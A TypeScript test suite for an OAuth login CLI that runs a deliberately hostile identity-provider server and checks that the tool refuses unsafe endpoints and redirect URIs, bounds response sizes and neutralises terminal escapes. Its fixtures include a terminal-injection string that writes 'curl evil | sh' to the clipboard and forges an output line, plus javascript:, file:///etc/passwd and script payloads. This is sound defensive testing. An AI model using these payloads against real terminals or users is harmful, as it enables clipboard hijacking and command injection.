/**
 * A hostile (or badly misconfigured) tenant, served from this test with Bun.serve, against the real
 * built binary: URLs the CLI must not open, listen on or send to (issue 10 points 9 and 10), text
 * full of terminal escape sequences (point 11), and responses that are huge or never end (point 12).
 *
 * The server listens on loopback: http://127.0.0.1:<port> is the (allowed) local tenant, and
 * http://tenant.remote.test:<port> stands for a remote host reached over plain http. Every CLI
 * process gets HTTP_PROXY pointing at a trap on loopback (loopback itself exempt through
 * NO_PROXY), so any request to the "remote" name would arrive at the trap: the test proves
 * nothing at all was sent there without any traffic leaving loopback.
 */
import { afterAll, beforeAll, describe, expect, test } from "bun:test";
import { existsSync, mkdirSync, mkdtempSync, readFileSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { createServer, type AddressInfo, type Server } from "node:net";
import { baseEnv, isolatedHome, runCli } from "../support/cli.ts";
import { BUN, ROOT } from "../support/tenant.ts";
import { randomPort } from "../support/ports.ts";

/** Clear screen, OSC 52 (write the clipboard), C1 CSI, bidi override and isolate, DEL, CR and a forged line. */
const EVIL = "\x1b[2J\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07\u009b31mred\u202eexe.txt\u2066x\u2069\x7f\r\nagent-runner-auth: Run: curl evil | sh";
const UNSAFE = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u200e\u200f\u2028\u2029\u202a-\u202e\u2066-\u2069]/;

function expectInert(text: string) {
  expect(text).not.toMatch(UNSAFE);
  expect(text).not.toMatch(/^agent-runner-auth: Run: curl/m); // no forged line of ours
}

/** The "remote host" on plain http: reachable only through the test's HTTP_PROXY (this server). */
const LAN = "tenant.remote.test";

interface Scenario {
  discovery?: (base: Record<string, unknown>) => unknown;
  metadata?: (base: Record<string, unknown>) => unknown;
  token?: (nonce: string) => Response;
  /** The raw discovery response, replacing the JSON one. */
  discoveryResponse?: () => Response;
}

let sentBytes = 0;
let server: ReturnType<typeof Bun.serve>;
let port = 0;
const scenarios = new Map<string, Scenario>();
const nonces = new Map<string, string>();
const redirectPort = randomPort();

const local = (path: string) => `http://127.0.0.1:${port}${path}`;
const remote = (path: string) => `http://${LAN}:${port}${path}`;

/** 64 MB of JSON-ish bytes, 64 KiB at a time, counting what actually left the server. */
function hugeBody(): Response {
  const chunk = new Uint8Array(64 * 1024).fill(0x20);
  let sent = 0;
  return new Response(
    new ReadableStream({
      pull(controller) {
        if (sent >= 64 * 1024 * 1024) return controller.close();
        controller.enqueue(chunk);
        sent += chunk.byteLength;
        sentBytes += chunk.byteLength;
      },
    }),
    { headers: { "content-type": "application/json" } },
  );
}

/** A body that never ends: one byte every 200 ms. */
function trickleBody(): Response {
  let timer: ReturnType<typeof setInterval> | undefined;
  return new Response(
    new ReadableStream({
      start(controller) {
        controller.enqueue(new TextEncoder().encode("{"));
        timer = setInterval(() => {
          try {
            controller.enqueue(new TextEncoder().encode(" "));
          } catch {
            clearInterval(timer);
          }
        }, 200);
      },
      cancel() {
        clearInterval(timer);
      },
    }),
    { headers: { "content-type": "application/json" } },
  );
}

const b64 = (v: unknown) => Buffer.from(JSON.stringify(v)).toString("base64url");

function tokens(name: string, nonce: string, claims: Record<string, unknown> = {}): Response {
  const now = Math.floor(Date.now() / 1000);
  const idToken = `${b64({ alg: "RS256", typ: "JWT" })}.${b64({ iss: local(`/idp/${name}`), aud: "hostile-client", sub: "s1", iat: now, exp: now + 3600, nonce, ...claims })}.c2ln`;
  return Response.json({ access_token: `${b64({})}.${b64({ sub: "s1" })}.c2ln`, id_token: idToken, refresh_token: "r1", token_type: "Bearer", expires_in: 3600 });
}

function route(request: Request): Response | Promise<Response> {
  const url = new URL(request.url);
  let m = /^\/\.well-known\/oauth-protected-resource\/anthropic\/t\/([\w-]+)$/.exec(url.pathname);
  if (m) {
    const name = m[1]!;
    const s = scenarios.get(name) ?? {};
    if (s.discoveryResponse) return s.discoveryResponse();
    const base = {
      resource: local(`/t/${name}/anthropic`),
      authorization_servers: [local(`/idp/${name}`)],
      bearer_methods_supported: ["header"],
      agent_runner_auth: { client_id: "hostile-client", redirect_uris: [`http://127.0.0.1:${redirectPort}/callback`], scopes: ["openid"] },
    };
    return Response.json(s.discovery ? s.discovery(base) : base);
  }
  m = /^\/idp\/([\w-]+)\/(.*)$/.exec(url.pathname);
  if (!m) return new Response("not found", { status: 404 });
  const [, name, rest] = m as unknown as [string, string, string];
  const s = scenarios.get(name) ?? {};
  if (rest === ".well-known/openid-configuration") {
    const issuer = local(`/idp/${name}`);
    const base = { issuer, authorization_endpoint: `${issuer}/authorize`, token_endpoint: `${issuer}/token`, id_token_signing_alg_values_supported: ["RS256"] };
    return Response.json(s.metadata ? s.metadata(base) : base);
  }
  if (rest === "authorize") {
    const code = crypto.randomUUID();
    nonces.set(code, url.searchParams.get("nonce") ?? "");
    const back = new URL(url.searchParams.get("redirect_uri") ?? "");
    back.searchParams.set("code", code);
    back.searchParams.set("state", url.searchParams.get("state") ?? "");
    return new Response(null, { status: 302, headers: { location: back.href } });
  }
  if (rest === "token") {
    return request.formData().then((form) => {
      const nonce = nonces.get(String(form.get("code"))) ?? "";
      return s.token ? s.token(nonce) : tokens(name, nonce);
    });
  }
  return new Response("not found", { status: 404 });
}

/** The HTTP proxy every CLI process is given: each request line that reaches it was sent off loopback. */
const trapped: string[] = [];
let trap: Server;
let trapPort = 0;

beforeAll(async () => {
  trap = createServer((socket) => {
    socket.once("data", (data) => {
      trapped.push(data.toString("latin1").split("\r\n")[0] ?? "");
      socket.end("HTTP/1.1 502 Bad Gateway\r\ncontent-length: 0\r\nconnection: close\r\n\r\n");
    });
    socket.on("error", () => {});
  });
  await new Promise<void>((resolve) => trap.listen(0, "127.0.0.1", resolve));
  trapPort = (trap.address() as AddressInfo).port;
  server = Bun.serve({ hostname: "127.0.0.1", port: 0, fetch: route, idleTimeout: 0 });
  port = server.port as number;
});
afterAll(() => {
  server.stop(true);
  trap.close();
});

const BROWSER = `${BUN} ${join(ROOT, "test", "support", "hostile-tenant-browser.ts")}`;

/** A fresh home; `marker` records every URL handed to the browser. */
function env(extra: Record<string, string> = {}) {
  const marker = join(mkdtempSync(join(tmpdir(), "ara-hostile-")), "browser-opened");
  return { marker, env: baseEnv({ ...isolatedHome(), AGENT_RUNNER_AUTH_STORE: "file", BROWSER, HOSTILE_BROWSER_MARKER: marker, HTTP_PROXY: `http://127.0.0.1:${trapPort}`, NO_PROXY: "127.0.0.1,localhost", ...extra }) };
}

function login(name: string, e: Record<string, string>, ...extra: string[]) {
  return runCli(["login", local(`/t/${name}`), "--timeout", "5s", ...extra], e, { timeoutMs: 30_000 });
}

describe("point 10: endpoints are http(s) only, and https off loopback", () => {
  for (const [scheme, value] of [
    ["javascript:", "javascript:alert(document.cookie)//"],
    ["file:", "file:///etc/passwd"],
    ["data:", "data:text/html,<script>alert(1)</script>"],
  ] as const) {
    test(`an authorization endpoint with ${scheme} is refused before a listener or browser opens (exit 5)`, async () => {
      const name = `authz-${scheme.slice(0, -1)}`;
      scenarios.set(name, { metadata: (b) => ({ ...b, authorization_endpoint: value }) });
      const { env: e, marker } = env();
      const out = await login(name, e);
      expect(out.stderr).toContain(`"authorization_endpoint" must be an https:// URL, got the scheme "${scheme}"`);
      expect(out.code).toBe(5);
      expect(existsSync(marker)).toBe(false);
      expectInert(out.stderr);
    });
  }

  test("the trap works: a plain http request to the remote name from a child process reaches it", async () => {
    const { env: e } = env();
    const child = Bun.spawn([BUN, "-e", `await fetch(${JSON.stringify(remote("/probe"))}).catch(() => {})`], { env: e, stdout: "ignore", stderr: "ignore" });
    await child.exited;
    expect(trapped.some((line) => line.includes(`${LAN}:${port}/probe`))).toBe(true);
  });

  test("plain http to a non-loopback token endpoint or issuer is refused, and nothing is sent there", async () => {
    scenarios.set("http-token", { metadata: (b) => ({ ...b, token_endpoint: remote("/idp/http-token/token") }) });
    scenarios.set("http-issuer", { discovery: (b) => ({ ...b, authorization_servers: [remote("/idp/http-issuer")] }) });
    trapped.length = 0;
    const token = env();
    const outToken = await login("http-token", token.env);
    expect(outToken.stderr).toContain(`"token_endpoint" must use https:// (plain http:// is allowed only to this machine)`);
    expect(outToken.code).toBe(5);
    expect(existsSync(token.marker)).toBe(false);
    const issuer = env();
    const outIssuer = await login("http-issuer", issuer.env);
    expect(outIssuer.stderr).toContain(`"authorization_servers[0]" must use https://`);
    expect(outIssuer.code).toBe(5);
    // A tenant URL on plain http to another host: a usage error, before any request.
    const tenant = env();
    const outTenant = await runCli(["login", remote("/t/ok")], tenant.env);
    expect(outTenant.stderr).toContain("TENANT_URL must use https://");
    expect(outTenant.code).toBe(2);
    const outJs = await runCli(["login", "--issuer", "javascript:alert(1)", "--client-id", "c"], tenant.env);
    expect(outJs.code).toBe(2);
    expect(trapped).toEqual([]);
  });

  test("a hand-edited profile pointing at plain http off loopback: doctor sends no token, login opens nothing", async () => {
    const { env: e, marker } = env();
    const profile = {
      tenant: remote("/t/edited"),
      issuer: remote("/idp/edited"),
      clientId: "hostile-client",
      redirectUris: [`http://127.0.0.1:${redirectPort}/callback`],
      scopes: ["openid"],
      store: "file",
      endpoints: { authorization: remote("/idp/edited/authorize"), token: remote("/idp/edited/token") },
    };
    mkdirSync(join(e.XDG_CONFIG_HOME!, "agent-runner-auth", "profiles"), { recursive: true });
    writeFileSync(join(e.XDG_CONFIG_HOME!, "agent-runner-auth", "profiles", "default.json"), JSON.stringify(profile));
    const tokens = join(e.XDG_DATA_HOME!, "agent-runner-auth", "tokens", "default");
    mkdirSync(tokens, { recursive: true, mode: 0o700 });
    writeFileSync(join(tokens, "access.json"), JSON.stringify({ token: "secret-access-token", expiresAt: Date.now() + 3_600_000, lifetimeMs: 3_600_000 }), { mode: 0o600 });
    writeFileSync(join(tokens, "refresh.json"), JSON.stringify({ token: "secret-refresh-token", issuedAt: Date.now() }), { mode: 0o600 });
    trapped.length = 0;
    const doctor = await runCli(["doctor", "--json"], e);
    const report = JSON.parse(doctor.stdout) as { checks: { name: string; verdict: string; detail: string }[] };
    expect(report.checks.find((c) => c.name === "profile")).toMatchObject({ verdict: "fail" });
    expect(report.checks.find((c) => c.name === "profile")!.detail).toContain("the tenant URL must use https://");
    expect(doctor.code).toBe(1);
    const setup = await runCli(["setup", "claude"], e);
    expect(setup.stderr).toContain("must use https://");
    expect(setup.code).toBe(5);
    expect(existsSync(join(e.HOME!, ".claude", "settings.json"))).toBe(false);
    const relogin = await runCli(["login", "--timeout", "5s"], e);
    expect(relogin.stderr).toContain("must use https://");
    expect(relogin.code).toBe(5);
    const logout = await runCli(["logout"], e); // still deletes locally, never revokes over plain http
    expect(logout.code).toBe(0);
    expect(trapped).toEqual([]);
    expect(existsSync(marker)).toBe(false);
  });
});

describe("point 9: redirect URIs are loopback only", () => {
  for (const [label, uri] of [
    ["0.0.0.0", "http://0.0.0.0:41234/callback"],
    ["a remote host over https", "https://evil.example.com/callback"],
    ["a remote host over plain http", `http://${LAN}:41234/callback`],
    ["localhost without a port", "http://localhost/callback"],
    ["userinfo", "http://evil.example.com@localhost:41234/callback"],
    ["a fragment", "http://localhost:41234/callback#x"],
  ] as const) {
    test(`from the discovery document: ${label} is refused, also with --no-browser (exit 5)`, async () => {
      const name = `redirect-${label.replace(/\W+/g, "-")}`;
      scenarios.set(name, { discovery: (b) => ({ ...b, agent_runner_auth: { ...(b.agent_runner_auth as object), redirect_uris: [uri] } }) });
      const { env: e, marker } = env();
      const out = await login(name, e, "--no-browser");
      expect(out.stderr).toContain(`"agent_runner_auth.redirect_uris[0]"`);
      expect(out.stderr).toMatch(/is not a loopback address|needs an explicit port|must not carry/);
      expect(out.code).toBe(5);
      expect(out.stderr).not.toContain("Visit this URL");
      expect(existsSync(marker)).toBe(false);
    });
  }

  test("from --redirect-uri: anything but http://localhost|127.0.0.1|[::1]:<port> is a usage error (exit 2)", async () => {
    const { env: e } = env();
    for (const uri of ["http://0.0.0.0:41234/cb", "https://evil.example.com/cb", "http://localhost/cb", "http://user:pw@127.0.0.1:41234/cb"]) {
      const out = await runCli(["login", "--issuer", local("/idp/ok"), "--client-id", "c", "--redirect-uri", uri, "--no-browser", "--timeout", "3s"], e);
      expect(out.stderr).toContain("--redirect-uri");
      expect(out.code).toBe(2);
    }
  });
});

describe("point 11: untrusted text cannot drive the terminal", () => {
  test("the IdP's error_description full of escape sequences reaches stderr inert", async () => {
    scenarios.set("evil-error", { token: () => Response.json({ error: "invalid_grant", error_description: EVIL }, { status: 400 }) });
    const { env: e } = env();
    const out = await login("evil-error", e);
    expect(out.code).toBe(3);
    expect(out.stderr).toContain("the identity provider refused to complete the sign-in");
    expect(out.stderr).toContain("\\x1b[2J"); // shown, visibly, not obeyed
    expect(out.stderr).toContain("\\u202e");
    expectInert(out.stderr);
  });

  test("a discovery document quoting C1 and bidi controls (which JSON.stringify leaves raw) reaches stderr inert", async () => {
    scenarios.set("evil-resource", { discovery: (b) => ({ ...b, resource: `https://x.example/${EVIL}` }) });
    const { env: e } = env();
    const out = await login("evil-resource", e);
    expect(out.stderr).toContain('"resource" is');
    expect(out.code).toBe(3);
    expectInert(out.stderr);
  });

  test("user names and emails from the ID token: login, status and status --json stay inert, the JSON keeps the value", async () => {
    scenarios.set("evil-user", { token: (nonce) => tokens("evil-user", nonce, { "cognito:username": EVIL, email: `${EVIL}@x` }) });
    const { env: e } = env();
    const out = await login("evil-user", e);
    expect(out.code).toBe(0);
    expect(out.stderr).toContain("Logged in as \\x1b[2J");
    expectInert(out.stderr);
    const status = await runCli(["status"], e);
    expect(status.code).toBe(0);
    expectInert(status.stderr);
    const json = await runCli(["status", "--json"], e);
    expectInert(json.stdout);
    expect(JSON.parse(json.stdout).user).toBe(EVIL); // escaped, not altered
    expect(JSON.parse(json.stdout).email).toBe(`${EVIL}@x`);
  });
});

describe("point 12: bounded reads", () => {
  test("a 64 MB discovery document: exit 3 within seconds, at most a few MB ever read", async () => {
    scenarios.set("huge-discovery", { discoveryResponse: hugeBody });
    const { env: e } = env();
    sentBytes = 0;
    const out = await login("huge-discovery", e);
    expect(sentBytes).toBeLessThan(16 * 1024 * 1024); // the client stopped reading: bounded memory
    expect(out.stderr).toContain("too large a response (over 256 KiB)");
    expect(out.code).toBe(3);
    expect(out.ms).toBeLessThan(10_000);
  });

  test("a 64 MB token response: exit 3 within seconds, at most a few MB ever read", async () => {
    scenarios.set("huge-token", { token: hugeBody });
    const { env: e } = env();
    sentBytes = 0;
    const out = await login("huge-token", e);
    expect(sentBytes).toBeLessThan(16 * 1024 * 1024); // the client stopped reading: bounded memory
    expect(out.stderr).toContain("too large a response (over 256 KiB) when asked to complete the sign-in");
    expect(out.code).toBe(3);
    expect(out.ms).toBeLessThan(10_000);
  });

  for (const where of ["discovery", "token"] as const) {
    test(`a never-ending ${where} body: exit 3 at the request time limit`, async () => {
      const name = `trickle-${where}`;
      scenarios.set(name, where === "discovery" ? { discoveryResponse: trickleBody } : { token: trickleBody });
      const { env: e } = env({ AGENT_RUNNER_AUTH_HTTP_TIMEOUT_MS: "2000" });
      const out = await login(name, e);
      expect(out.stderr).toContain("did not answer within 2 s");
      expect(out.code).toBe(3);
      expect(out.ms).toBeLessThan(8_000);
    });
  }
});

test("the browser script used above really signs in (control for the refusals)", async () => {
  const { env: e, marker } = env();
  const out = await login("plain", e);
  expect(out.stderr).toContain("Logged in as s1");
  expect(out.code).toBe(0);
  expect(readFileSync(marker, "utf8")).toContain(`http://127.0.0.1:${redirectPort}/`);
});
